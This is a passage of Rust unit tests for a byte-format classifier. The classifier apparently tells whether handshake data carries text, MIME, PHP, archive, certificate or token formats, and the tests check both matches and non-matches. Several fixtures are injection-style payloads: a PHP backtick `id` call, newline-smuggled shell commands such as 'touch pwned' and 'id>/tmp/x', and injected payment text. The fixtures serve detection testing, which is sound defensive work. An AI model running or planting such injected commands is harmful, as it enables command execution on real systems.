            ("text", shaped(b"\x01\nid>/tmp/x\n\x01", &[])),
            ("text", shaped(b"Pay Eve 99\r\n\x01", &[])),
            ("text", shaped(b"\r\n\nPay 9999 to Mallory\x01", &[])),
            ("text", shaped(b"0123456789abcdef0123456789abcdef\ntouch pwned\n\x01", &[])),
            ("MIME", shaped(b"MIME-Version: 1.0\r\n", &[])),
            ("MIME", shaped(b"A:\x01\r\ncontent-type:text/plain\r\n\r\nPay\r\n", &[])),
            ("MIME", shaped(b"\x01\nCONTENT-Transfer-Encoding:7bit\n\nPay\n\x01", &[])),
            ("MIME", shaped(b"\x01: 1\n mime-version:1\n\n\x01", &[])),
            ("PHP", shaped(b"\x01<?PHP `id`;", &[])),
            ("OpenPGP", pgp(4, 4)),
            ("OpenPGP", pgp(6, 4)),
            ("OpenPGP", pgp(5, 8)),
            ("OpenPGP", shaped(&[0x99, 0, 0x33, 4, 0x60, 0, 0, 0, 19], &[])),
            ("gzip", shaped(&[0x1f, 0x8b, 8, 0], &[])),
            ("bzip2", shaped(b"BZh41AY&SY", &[])),
            ("Zstandard or LZ4", shaped(b"\x5f\x2a\x4d\x18", &[])),
            ("archive", roomy(b"7z\xbc\xaf\x27\x1c")),
            ("archive", roomy(b"MSCF\0\0\0\0")),
            ("ZIP", zip(0)),
            ("ZIP", zip(300)),
            ("PDF", pdf),
            ("OPC UA", certificate),
            ("DNSSEC", rrsig),
            ("certificate transparency", sct),
            ("HIP", [&[59, 12, 1, 0x21, 0, 0][..], &[7; 98]].concat()),
            ("PASETO", shaped(b"\x04\0\0\0\0\0\0\0\x0a\0\0\0\0\0\0\0v4.public.", &[])),
            ("TPM 1.2 attestation", shaped(b"\x01\x01\0\0QUOT", &[])),
            ("DDS", shaped(b"\0\0\0\x06\0\0\0\x08hash_c1\0", &[])),
        ] {
            assert_eq!(of(&message), Some(name), "{:x?}", &message[..32.min(message.len())]);
        }
    }

    /// What a handshake may well begin with: a clock, zeros, text, and what has a part of a mark only.
    #[test]
    fn parts_of_a_form_are_no_form() {
        for start in [
            &[0; 32][..],
            &[0, 0, 0, 32],
            &[&[0, 0, 0, 32][..], &[7; 32], &[50, 1]].concat(),
            &[&[0, 0, 0, 20][..], &[7; 20], &[50, 9, 9]].concat(),
            b"#!",
            b"#!/bin",
            b"#!(a)\n",
            b"MZ",
            b"PK",
            b"eyJhbGciOiJFUzI1NiJ9",
            b"0123456789abcdef0123456789abcdef",
            b"GET / HTTP/1.1 and Host: shop.ex",
            // Short commands, and text of a client's own that is followed by something else.
            b"reboot\n\x01",
            b"ID>x;exit\n\x01",
            b"\x01\ntouch x;id\x01",
            b"random of a client\0",
            b"0123456789abcdef0123456789abcdef\n\x01",
            b"\x01eyJhbGciOiJFUzI1NiJ9",
            b"e30.",
            b"{\"alg\":\"ES256\"}.",
            b"Content",
            &[0x84, 0x6a],
            &[0x1f, 0x8b],
            &[0x60, 0, 0, 0],
        ] {
            assert_eq!(of(&shaped(start, &[])), None, "{start:x?}");
        }
    }
}
